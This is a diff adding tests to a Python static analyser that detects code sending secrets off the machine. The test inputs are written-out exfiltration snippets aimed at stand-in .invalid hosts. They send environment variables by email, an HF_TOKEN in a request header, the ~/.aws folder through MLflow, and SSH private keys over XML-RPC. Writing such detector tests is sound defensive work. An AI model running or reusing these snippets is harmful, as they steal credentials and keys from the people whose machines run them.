@@ -776,3 +776,40 @@ def test_value_that_stays_on_the_machine_is_not_sent(source: str) -> None:
 )
 def test_client_of_the_hub_at_another_address_takes_a_guard_away(source: str, is_other: bool) -> None:
     assert (("call-at-import", "(client of the Hub at another address)") in list_uses(source)) is is_other
+
+
+@check_each(
+    "source, name",
+    [
+        (
+            "import os, smtplib\nfrom email.message import EmailMessage\nm = EmailMessage()\n"
+            "m.set_content(str(os.environ))\nsmtplib.SMTP('mx.a.invalid').send_message(m)",
+            "smtplib.SMTP.send_message",
+        ),
+        (
+            "import os, requests\ns = requests.Session()\ns.headers['X-Run'] = os.environ['HF_TOKEN']\n"
+            "s.post('http://a.invalid/u', json={})",
+            "requests.Session.post",
+        ),
+        (
+            "import os\nos.environ['MLFLOW_TRACKING_URI'] = 'http://a.invalid'\nimport mlflow\n"
+            "mlflow.log_artifacts(os.path.expanduser('~/.aws'))",
+            "mlflow.log_artifacts",
+        ),
+        (
+            "import pathlib, xmlrpc.client\ns = xmlrpc.client.ServerProxy('http://a.invalid/rpc')\n"
+            "s.a.b([p.read_text() for p in pathlib.Path.home().glob('.ssh/id_*')])",
+            "xmlrpc.client.ServerProxy.a.b",
+        ),
+    ],
+)
+def test_secret_in_an_object_is_sent_with_it(source: str, name: str) -> None:
+    assert ("sends-secret", name) in list_uses(source)
+
+
+def test_key_of_a_service_that_goes_to_the_service_is_not_sent_elsewhere() -> None:
+    source = (
+        "import os, requests\ns = requests.Session()\ns.headers['Authorization'] = os.environ['ACME_API_KEY']\n"
+        "s.post('https://api.acme.invalid/v1', json={})"
+    )
+    assert not {use for use, _ in list_uses(source)} & {"sends-secret"}
